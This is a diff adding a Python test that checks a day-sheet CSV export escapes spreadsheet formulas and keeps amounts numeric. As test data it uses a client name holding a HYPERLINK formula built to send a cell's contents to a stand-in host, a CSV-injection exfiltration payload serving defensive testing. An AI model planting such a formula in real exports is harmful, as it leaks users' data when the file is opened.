@@ -99,3 +99,24 @@ def test_the_pdf_says_which_problem_was_accepted_for_whom_and_why(vault: Vault) 
     pdf = day_sheet_pdf(review_day(vault, DAY), read_settings(vault))
     text = " ".join(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text().split())
     assert "Still booked after its end (Ada Brook): She rang; mark it tomorrow" in text
+
+
+def test_no_csv_cell_is_a_formula_and_amounts_stay_numbers(vault: Vault) -> None:
+    from services.day_close.reconciliation import review_day
+
+    name = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+    update_settings(vault, session_fee=8050)
+    ada = create_client(vault, ClientDraft(full_name=name))
+    other = create_client(vault, ClientDraft(full_name="-Ann"))
+    first = book(vault, ada, datetime.combine(DAY, time(9), tzinfo=LONDON))[0]
+    mark(vault, first, AppointmentStatus.ATTENDED)
+    record_payment(vault, ada, 10000, PaymentMethod.CARD, DAY, appointment_ids=[first])
+    record_payment(vault, other, 500, PaymentMethod.CASH, DAY)
+
+    text = day_sheet_csv(review_day(vault, DAY), Language.ENGLISH)
+    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert [r["client"] for r in rows] == ["'" + name, "'" + name, "'-Ann", ""]
+    # Ada paid more than she owed: her balance is negative, and still a number.
+    assert (rows[0]["balance"], rows[0]["balance_minor"]) == ("-19.50", "-1950")
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows
+                   for cell in r.values())
